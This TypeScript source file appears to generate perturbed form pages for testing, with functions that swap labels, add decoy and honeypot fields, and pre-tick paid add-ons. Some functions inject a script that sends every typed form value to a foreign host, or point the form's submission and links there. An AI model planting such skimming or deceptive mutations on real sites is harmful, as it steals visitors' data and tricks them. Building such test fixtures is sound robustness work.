import type { PageMutation } from './page-rewriter.ts';

// Each of these is handed to a browser as its own text: nothing from outside its body is there then.

export const labelDetached: PageMutation = ({ textInputs: texts, labelOf, below, page }) => {
  const labelled = texts.filter((field) => labelOf(field));
  for (const field of labelled) {
    const label = labelOf(field);
    if (!label) continue;
    const said = label.firstChild?.textContent ?? '';
    const way = below(3);
    if (way === 0) field.setAttribute('aria-label', said);
    if (way === 1) {
      const words = page.createElement('span');
      words.append(...label.childNodes);
      words.id = `${field.id}-words`;
      field.setAttribute('aria-labelledby', words.id);
      label.replaceWith(words);
    }
    if (way === 2) field.placeholder = said;
    if (way !== 1) label.remove();
  }
  return labelled.length > 0 ? {} : undefined;
};

export const labelSpacing: PageMutation = ({ page, pickAny: any }) => {
  const labels = page.querySelectorAll('label, legend, form button');
  for (const label of labels) {
    const words = label.firstChild;
    if (words?.nodeType !== Node.TEXT_NODE) continue;
    const between = any([' ', '  ', '\n   ', ' \n\t']) ?? ' ';
    words.textContent = `\n ${(words.textContent ?? '').replaceAll(' ', between)} `;
  }
  return labels.length > 0 ? {} : undefined;
};

export const labelDecorated: PageMutation = ({ fields, labelOf, pickAny: any }) => {
  let dressed = 0;
  for (const field of fields) {
    const words = labelOf(field)?.firstChild;
    if (words?.nodeType !== Node.TEXT_NODE || field.type === 'radio' || field.type === 'checkbox') continue;
    if (!field.required) continue;
    words.textContent += any([' *', ' :', ' (required)', ' (mandatory field) *']) ?? '';
    dressed += 1;
  }
  return dressed > 0 ? {} : undefined;
};

export const labelsSwapped: PageMutation = ({ fields, labelOf, pickAny: any }) => {
  const one = any(fields.filter((field) => labelOf(field) && field.type !== 'radio'));
  const other = one && any(fields.filter((field) => field !== one && field.type === one.type && labelOf(field)));
  const [first, second] = [one && labelOf(one)?.firstChild, other && labelOf(other)?.firstChild];
  if (!first || !second) return undefined;
  [first.textContent, second.textContent] = [second.textContent, first.textContent];
  return {};
};

/** Another question in the place of ours, answered by the same field. */
export const labelForOtherThing: PageMutation = ({ textInputs: texts, labelOf, pickAny: any }) => {
  const words = any(texts.map((field) => labelOf(field)?.firstChild).filter((label) => label));
  if (!words) return undefined;
  words.textContent = `${any(['Previous', 'Former', 'Second', "Spouse's", 'Trailer:'])} ${words.textContent?.toLowerCase()}`;
  return {};
};

export const hintMoved: PageMutation = ({ page, pickAny: any, form }) => {
  const hints = form?.querySelectorAll('label span[id$="-hint"]') ?? [];
  for (const hint of hints) {
    const field = page.querySelector(`[aria-describedby~="${hint.id}"]`);
    const way = any(['after', 'title', 'placeholder']);
    if (way === 'after' || !field) (field ?? hint).after(hint);
    else {
      field.setAttribute(way ?? 'title', hint.textContent ?? '');
      field.removeAttribute('aria-describedby');
      hint.remove();
    }
  }
  return hints.length > 0 ? {} : undefined;
};

/** The language that the page says it is in is another one. */
export const wrongPageLanguage: PageMutation = ({ page, pickAny: any }) => {
  page.documentElement.lang = any(['', 'fr', 'de', 'en-US', 'it']) ?? '';
  return {};
};

export const namesChanged: PageMutation = ({ page, form, fields, below }) => {
  if (!form || fields.length === 0) return undefined;
  const names: Record<string, string> = {};
  for (const original of new Set(fields.map(({ name }) => name))) {
    const name = `ctl00$f${below(1_000_000)}`;
    names[name] = original;
    for (const element of form.querySelectorAll(`[name="${CSS.escape(original)}"]`)) element.setAttribute('name', name);
    for (const element of form.querySelectorAll(`[data-when-name="${CSS.escape(original)}"]`))
      element.setAttribute('data-when-name', name);
  }
  for (const element of form.querySelectorAll('[id]')) {
    const id = `x${below(1_000_000)}`;
    const old = element.id;
    element.id = id;
    for (const attribute of ['for', 'aria-describedby', 'aria-labelledby', 'aria-controls', 'data-card-frame']) {
      for (const user of page.querySelectorAll(`[${attribute}~="${CSS.escape(old)}"]`))
        user.setAttribute(attribute, (user.getAttribute(attribute) ?? '').replace(old, id));
    }
    if (form.dataset.cardError === old) form.dataset.cardError = id;
  }
  return { names };
};

/** Each is named as the other was, and posted as it. */
export const namesSwapped: PageMutation = ({ textInputs: texts, pickAny: any }) => {
  const one = any(texts);
  const other = any(texts.filter((field) => field !== one));
  if (!one || !other) return undefined;
  [one.name, other.name] = [other.name, one.name];
  return { names: { [one.name]: other.name, [other.name]: one.name } };
};

export const fieldsReordered: PageMutation = ({ form, fields, groupOf, below }) => {
  const groups = [...new Set(fields.map(groupOf))].filter(({ parentElement }) => parentElement === form);
  const last = groups.at(-1)?.nextSibling;
  if (!form || !last || groups.length < 2) return undefined;
  for (let left = groups.length; left > 0; left -= 1) {
    const [group] = groups.splice(below(left), 1);
    if (group) form.insertBefore(group, last);
  }
  return {};
};

export const submitButtonFirst: PageMutation = ({ form }) => {
  const button = form?.querySelector('button[type=submit]');
  if (!form || !button) return undefined;
  form.insertAdjacentHTML(
    'afterbegin',
    '<p><button type="button">Help</button> <a href="#top">Save for later</a> <button type="reset">Clear</button></p>',
  );
  form.prepend(button);
  return {};
};

export const fieldsWrapped: PageMutation = ({ fields, groupOf, below, page, pickAny: any }) => {
  for (const group of new Set(fields.map(groupOf))) {
    for (let depth = 1 + below(5); depth > 0; depth -= 1) {
      const wrapper = page.createElement(any(['div', 'section', 'span', 'article']) ?? 'div');
      if (below(2)) wrapper.setAttribute('role', 'presentation');
      group.before(wrapper);
      wrapper.append(group);
    }
  }
  return fields.length > 0 ? {} : undefined;
};

export const fieldsInGroup: PageMutation = ({ wrapInGroup: group, pickAny: any }) =>
  group(any(['Your details', 'Part 2', 'Details']));

export const fieldsInForeignGroup: PageMutation = ({ wrapInGroup: group, pickAny: any }) =>
  group(any(['Second driver', 'Previous keeper', 'Trailer']));

export const fieldsInTable: PageMutation = ({ textInputs: texts, labelOf, groupOf, page }) => {
  for (const field of texts) {
    const label = labelOf(field);
    const row = page.createElement('tr');
    row.innerHTML = '<th></th><td></td>';
    const table = page.createElement('table');
    const body = page.createElement('tbody');
    table.append(body);
    body.append(row);
    groupOf(field).replaceWith(table);
    if (label) row.firstElementChild?.append(label);
    row.lastElementChild?.append(field);
  }
  return texts.length > 0 ? {} : undefined;
};

export const listAsRadios: PageMutation = ({ form, labelOf, page, pickAny: any }) => {
  const list = any([...(form?.querySelectorAll('select') ?? [])].filter((one) => labelOf(one)));
  if (!list) return undefined;
  const set = page.createElement('fieldset');
  set.innerHTML = `<legend>${labelOf(list)?.firstChild?.textContent ?? ''}</legend>`;
  for (const [index, option] of [...list.options].entries()) {
    if (option.value === '') continue;
    const id = `${list.id}-${index}`;
    set.insertAdjacentHTML('beforeend', `<div><input type="radio"><label for="${id}"></label></div>`);
    const [input, label] = set.lastElementChild?.children ?? [];
    if (!input || !label) continue;
    Object.assign(input, { id, name: list.name, value: option.value, defaultChecked: option.defaultSelected });
    label.textContent = option.label;
  }
  labelOf(list)?.remove();
  list.replaceWith(set);
  return {};
};

export const radiosAsList: PageMutation = ({ form, page, pickAny: any }) => {
  const set = any([...(form?.querySelectorAll('fieldset') ?? [])].filter((one) => one.querySelector('[type=radio]')));
  const radios = [...(set?.querySelectorAll<HTMLInputElement>('[type=radio]') ?? [])];
  if (!set || !radios[0]) return undefined;
  const [{ name }] = radios as [HTMLInputElement];
  const list = page.createElement('select');
  Object.assign(list, { id: `${name}-list`, name, required: true });
  list.append(new Option('Please choose', ''));
  for (const radio of radios) {
    const label = page.querySelector(`label[for="${CSS.escape(radio.id)}"]`);
    list.append(new Option(label?.textContent ?? '', radio.value, radio.defaultChecked, radio.defaultChecked));
  }
  const label = page.createElement('label');
  label.htmlFor = list.id;
  label.textContent = set.querySelector('legend')?.textContent ?? '';
  set.replaceWith(label, list);
  return {};
};

export const optionsReworded: PageMutation = ({ form, pickAny: any }) => {
  const list = any(form?.querySelectorAll('select') ?? []);
  if (!list) return undefined;
  for (const option of list.options)
    if (option.value)
      option.label = any([`${option.text} (${option.value})`, `${option.value} - ${option.text}`]) ?? '';
  return {};
};

export const typeChanged: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
  const field = any(texts);
  if (!field) return undefined;
  const way = any(['tel', 'search', 'number', 'password', 'textarea'] as const);
  if (way !== 'textarea') {
    field.type = way ?? 'tel';
    return {};
  }
  const area = page.createElement('textarea');
  for (const { name, value } of field.attributes) if (!/^(type|value)$/.test(name)) area.setAttribute(name, value);
  field.replaceWith(area);
  return {};
};

export const buttonAsInput: PageMutation = ({ form, page }) => {
  const button = form?.querySelector('button[type=submit]');
  if (!button) return undefined;
  const input = page.createElement('input');
  Object.assign(input, { type: 'submit', value: button.textContent?.trim() ?? '' });
  button.replaceWith(input);
  return {};
};

export const dateOrderChanged: PageMutation = ({ page, labelOf, day, pick }) => {
  const field = day && page.querySelector<HTMLInputElement>(`input[name="${day.name}"]`);
  if (!field) return undefined;
  const order = pick(['YMD', 'MDY'] as const);
  const said = { YMD: ['YYYY-MM-DD', 'Year-month-day'], MDY: ['MM/DD/YYYY', 'Month/day/year'] } as const;
  const label = labelOf(field);
  for (const old of label?.querySelectorAll('span') ?? []) old.remove();
  for (const old of page.querySelectorAll(`[id="${field.id}-hint"]`)) old.remove();
  field.removeAttribute('aria-describedby');
  const hint = pick(said[order]);
  if (pick([true, false])) field.placeholder = hint;
  else if (label) label.append(` (${hint})`);
  return { day: { name: field.name, order } };
};

export const nativeDateInput: PageMutation = ({ page, day }) => {
  const field = day && page.querySelector<HTMLInputElement>(`input[name="${day.name}"]`);
  if (!field) return undefined;
  field.type = 'date';
  return { day: { name: field.name, order: 'YMD' } };
};

export const fieldTooShort: PageMutation = ({ textInputs: texts, pickAny: any, below }) => {
  const field = any(texts);
  if (!field) return undefined;
  field.maxLength = 2 + below(3);
  return {};
};

export const caseChangedAsTyped: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
  const field = any(texts);
  if (!field) return undefined;
  const way = any(['value.toUpperCase()', 'value.toLowerCase()']);
  const when = any(['input', 'change', 'blur']);
  const script = page.createElement('script');
  script.textContent = `addEventListener('${when}', ({ target }) => {
    const { value, name } = target;
    if (name === ${JSON.stringify(field.name)}) { const next = ${way}; if (next !== value) target.value = next; }
  }, true);`;
  page.body.append(script);
  return {};
};

export const valueAlteredAsTyped: PageMutation = ({ textInputs: texts, pickAny: any, page }) => {
  const field = any(texts);
  if (!field) return undefined;
  const way = any(["value.replace(/[^\\w@.]/g, '')", 'value.slice(0, -1)', "value.replace(/\\d/, '0')"]);
  const when = any(['input', 'change', 'blur']);
  const script = page.createElement('script');
  script.textContent = `addEventListener('${when}', ({ target }) => {
    const { value, name } = target;
    if (name === ${JSON.stringify(field.name)}) { const next = ${way}; if (next !== value) target.value = next; }
  }, true);`;
  page.body.append(script);
  return {};
};

/** After the visitor has looked a last time. */
export const valueAlteredOnSubmit: PageMutation = ({ form, textInputs: texts, pickAny: any, page }) => {
  const field = any(texts);
  if (!form || !field) return undefined;
  const way = any(['value.slice(0, -2)', "'X' + value", 'value.split("").reverse().join("")']);
  const script = page.createElement('script');
  script.textContent = `addEventListener('${any(['submit', 'formdata', 'pagehide'])}', (event) => {
    const name = ${JSON.stringify(field.name)};
    if (event.formData) { const value = event.formData.get(name); event.formData.set(name, ${way}); return; }
    const field = document.getElementsByName(name)[0];
    const value = field.value;
    field.value = ${way};
  }, true);`;
  page.body.append(script);
  return {};
};

export const extraOptionalField: PageMutation = ({ form, insert, pickAny: any }) => {
  if (!form) return undefined;
  insert(
    any([
      '<p><label for="m1">Reference of your own (optional)</label><input id="m1" name="mutant-reference"></p>',
      '<p><label for="m1">How did you hear of us?</label><select id="m1" name="mutant-heard"><option value="">Choose</option><option>Radio</option></select></p>',
      '<p><input type="checkbox" id="m1" name="mutant-news"><label for="m1">Send me news</label></p>',
      '<p><label for="m1">Telephone (optional)</label><input id="m1" type="tel" autocomplete="tel" name="mutant-telephone"></p>',
    ]) ?? '',
  );
  return {};
};

export const extraRequiredField: PageMutation = ({ form, insert, pickAny: any }) => {
  if (!form) return undefined;
  insert(
    any([
      '<p><label for="m1">Owner number</label><input id="m1" name="mutant-number" required></p>',
      '<p><label for="m1">Nationality *</label><select id="m1" name="mutant-nation"><option value="">Choose</option><option>French</option></select></p>',
      '<p><label for="m1">Number of seats (required)</label><input id="m1" name="mutant-seats" value="5"></p>',
      '<fieldset><legend>Are you a resident? *</legend><input type="radio" id="m1" name="mutant-r" value="1"><label for="m1">Yes</label><input type="radio" id="m2" name="mutant-r" value="0"><label for="m2">No</label></fieldset>',
      '<p><input type="checkbox" id="m1" name="mutant-tick" required><label for="m1">I have read the new privacy notice</label></p>',
    ]) ?? '',
  );
  return {};
};

export const prefilledExtraField: PageMutation = ({ form, insert, pickAny: any }) => {
  if (!form) return undefined;
  insert(
    any([
      '<p><label for="m1">Telephone</label><input id="m1" name="mutant-telephone" value="+43 1 2345"></p>',
      '<p><label for="m1">Donation</label><select id="m1" name="mutant-donation"><option value="">None</option><option value="5" selected>EUR 5</option></select></p>',
      '<p><label for="m1">Company</label><textarea id="m1" name="mutant-company">ACME GmbH</textarea></p>',
    ]) ?? '',
  );
  return {};
};

/** What another visitor left in a field of ours. */
export const prefilledOwnField: PageMutation = ({ textInputs: texts, pickAny: any }) => {
  const field = any(texts);
  if (!field) return undefined;
  field.setAttribute('value', any(['Martin', 'W 1234 X', '01/01/2001', '1']) ?? '');
  return {};
};

export const preselectedOwnOption: PageMutation = ({ form, pickAny: any }) => {
  const list = any(form?.querySelectorAll('select') ?? []);
  const radio = any(form?.querySelectorAll<HTMLInputElement>('[type=radio]') ?? []);
  if (list) any([...list.options].filter(({ value }) => value))?.setAttribute('selected', '');
  radio?.setAttribute('checked', '');
  return list || radio ? {} : undefined;
};

export const checkedExtraBox: PageMutation = ({ form, insert, pickAny: any }) => {
  if (!form) return undefined;
  const words = any(['Send me offers of our partners', 'Add insurance for EUR 9.90', 'Renew it every year', '']);
  insert(`<p><input type="checkbox" id="m1" name="mutant-tick" checked><label for="m1">${words}</label></p>`);
  return {};
};

/** A press on it would take the tick away. */
export const checkedOwnBoxes: PageMutation = ({ form }) => {
  const ticks = form?.querySelectorAll('[type=checkbox]') ?? [];
  for (const tick of ticks) tick.setAttribute('checked', '');
  return ticks.length > 0 ? {} : undefined;
};

export const honeypot: PageMutation = ({ textInputs: texts, labelOf, groupOf, pickAny: any }) => {
  const field = any(texts);
  if (!field) return undefined;
  const hidden = any([
    'position:absolute;left:-5000px',
    'display:none',
    'opacity:0;position:absolute',
    'height:0;overflow:hidden',
    'visibility:hidden',
  ]);
  const words = labelOf(field)?.firstChild?.textContent ?? '';
  groupOf(field).insertAdjacentHTML(
    'beforebegin',
    `<div style="${hidden}"><label for="m1">${words}</label><input id="m1" name="mutant-pot" autocomplete="${field.autocomplete}"></div>`,
  );
  return {};
};

/** Before a field one that asks for nearly the same. */
export const decoy: PageMutation = ({ textInputs: texts, labelOf, groupOf, pickAny: any }) => {
  const field = any(texts.filter((one) => labelOf(one)));
  if (!field) return undefined;
  const words = labelOf(field)?.firstChild?.textContent?.trim() ?? '';
  const asked = any([
    `Previous ${words}`,
    `${words} of the trailer`,
    `${words} (2)`,
    `${words} of your partner`,
    words,
  ]);
  groupOf(field).insertAdjacentHTML(
    any(['beforebegin', 'afterend'] as const) ?? 'beforebegin',
    `<p><label for="m1">${asked}</label><input id="m1" name="mutant-decoy"></p>`,
  );
  return {};
};

/** Its own address is a trap. */
export const otherForm: PageMutation = ({ form, textInputs: texts, labelOf, pickAny: any }) => {
  if (!form) return undefined;
  const field = any(texts);
  const words = (field && labelOf(field)?.firstChild?.textContent) || 'E-mail address';
  const button = any([form.querySelector('button[type=submit]')?.textContent ?? '', 'Subscribe', 'Search']);
  form.insertAdjacentHTML(
    any(['beforebegin', 'afterend'] as const) ?? 'afterend',
    `<form method="post" action="mutant-form"><label for="m1">${words}</label><input id="m1" name="mutant-other"><button>${button}</button></form>`,
  );
  return {};
};

/** Called like ours, and it leads elsewhere. */
export const misleadingButton: PageMutation = ({ form, pickAny: any }) => {
  const button = form?.querySelector('button[type=submit]');
  if (!button) return undefined;
  const way = any(['formaction="mutant-form"', 'name="mutant-act" value="cancel"', 'type="button"']);
  button.insertAdjacentHTML(
    any(['beforebegin', 'afterend'] as const) ?? 'afterend',
    `<button ${way}>${any([button.textContent, 'Delete', 'Cancel', `${button.textContent} later`])}</button>`,
  );
  return {};
};

/** Ten times as much, a tenth of it, or another currency, wherever the page says a price. */
export const amountChanged: PageMutation = ({ page, pick }) => {
  const walker = page.createTreeWalker(page.body, NodeFilter.SHOW_TEXT);
  const change = pick([
    (text: string) =>
      text.replace(/(\d+)([.,])(\d\d)/, (_, euros, mark, cents) => `${euros}${cents[0]}${mark}${cents[1]}0`),
    (text: string) =>
      text.replace(/(\d+)([.,])(\d\d)/, (_, euros, mark) => `${Math.floor(Number(euros) / 10)}${mark}01`),
    (text: string) => text.replace(/€|EUR/, pick(['$', 'GBP', 'CHF'])),
  ]);
  let changed = 0;
  while (walker.nextNode()) {
    const { currentNode: node } = walker;
    const text = node.textContent ?? '';
    if (!/(€|EUR)\s*\d|\d[.,]\d\d\s*(€|EUR)/.test(text)) continue;
    node.textContent = change(text);
    changed += 1;
  }
  return changed > 0 ? {} : undefined;
};

export const secondAmount: PageMutation = ({ page, form, pickAny: any }) => {
  if (!form || !/(€|EUR)\s*\d|\d[.,]\d\d\s*(€|EUR)/.test(page.body.textContent ?? '')) return undefined;
  form.insertAdjacentHTML(
    'beforebegin',
    `<p>${any(['Total with service fee: EUR 59.90', 'To be paid: 214,00 €', 'Deposit EUR 1,200.00'])}</p>`,
  );
  return {};
};

/** What was entered, shown back with its end cut off. */
export const summaryValueCut: PageMutation = ({ page, shown, pickAny: any, below }) => {
  const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
  const line = any(lines);
  if (!line) return undefined;
  line.textContent = (line.textContent ?? '').trim().slice(0, -(1 + below(2)));
  return {};
};

/** Somebody else's answer in the place of ours. */
export const summaryValueForeign: PageMutation = ({ page, shown, pickAny: any }) => {
  const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
  const line = any(lines);
  if (!line) return undefined;
  line.textContent = any(['Martin', 'W-1234X', '7 rue du Bac', 'jean@elsewhere.example', 'Petrol', '01/02/2003']) ?? '';
  return {};
};

/** Two answers of ours that have changed places. */
export const summaryValuesSwapped: PageMutation = ({ page, shown, pickAny: any }) => {
  const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
  const one = any(lines);
  const other = any(lines.filter(({ textContent }) => textContent !== one?.textContent));
  if (!one || !other) return undefined;
  [one.textContent, other.textContent] = [other.textContent, one.textContent];
  return {};
};

export const summaryValuesMissing: PageMutation = ({ page, shown }) => {
  const lines = [...page.querySelectorAll('dd')].filter(({ textContent }) => shown.includes(textContent?.trim() ?? ''));
  for (const line of lines) line.parentElement?.remove();
  return lines.length > 0 ? {} : undefined;
};

export const blockingOverlay: PageMutation = ({ page, pickAny: any }) => {
  const button = any(['Close', 'No thanks', 'Stay on this page', 'Continue', '×']);
  page.body.insertAdjacentHTML(
    'beforeend',
    `<div style="position:fixed;inset:0;background:#fffe;z-index:99" id="mutant-veil"><div role="dialog" aria-modal="true"><h2>Tell us what you think</h2><button type="button" onclick="document.getElementById('mutant-veil').remove()">${button}</button></div></div>`,
  );
  return {};
};

export const browserDialogs: PageMutation = ({ page, pickAny: any }) => {
  const script = page.createElement('script');
  script.textContent =
    any([
      "addEventListener('load', () => alert('Your session ends soon'));",
      "addEventListener('submit', (event) => { if (!confirm('Are you sure?')) event.preventDefault(); }, true);",
      "addEventListener('beforeunload', (event) => event.preventDefault());",
      "addEventListener('load', () => open('mutant-advertisement'));",
    ]) ?? '';
  page.body.append(script);
  return {};
};

export const formToForeignHost: PageMutation = ({ form, elsewhere }) => {
  form?.setAttribute('action', `${elsewhere}/form`);
  return form ? {} : undefined;
};

/** A script that tells another host what is typed. */
export const exfiltrationScript: PageMutation = ({ page, form, elsewhere, pickAny: any }) => {
  if (!form) return undefined;
  const way = any([
    'new Image().src = there + "?" + body',
    'fetch(there, { method: "POST", body, mode: "no-cors", keepalive: true }).catch(() => {})',
    'navigator.sendBeacon(there, body)',
    'try { new WebSocket(there.replace("http", "ws") + "?" + body) } catch {}',
    '{ const frame = document.createElement("iframe"); frame.src = there + "?" + body; document.body.append(frame); }',
  ]);
  const script = page.createElement('script');
  script.textContent = `addEventListener('${any(['change', 'submit', 'input'])}', () => {
    const there = ${JSON.stringify(elsewhere)} + '/listener';
    const body = String(new URLSearchParams([...document.querySelectorAll('form input, form select')].map((field) => [field.name, field.value])));
    ${way};
  }, true);`;
  page.body.append(script);
  return {};
};

/** Every way on leads to another host. */
export const linksToForeignHost: PageMutation = ({ page, elsewhere }) => {
  const links = page.querySelectorAll('main a[href]');
  for (const link of links) link.setAttribute('href', `${elsewhere}/link`);
  return links.length > 0 ? {} : undefined;
};

/** Words of a no where a portal does not say one. */
export const unrelatedRefusal: PageMutation = ({ page, pickAny: any }) => {
  const words = any([
    'What if the payment was declined?',
    'This field is required.',
    'An application is already in progress for this vehicle: what now?',
  ]);
  page.body.insertAdjacentHTML(
    'beforeend',
    `<aside><details open><summary>Help</summary><p>${words}</p></details></aside>`,
  );
  return {};
};
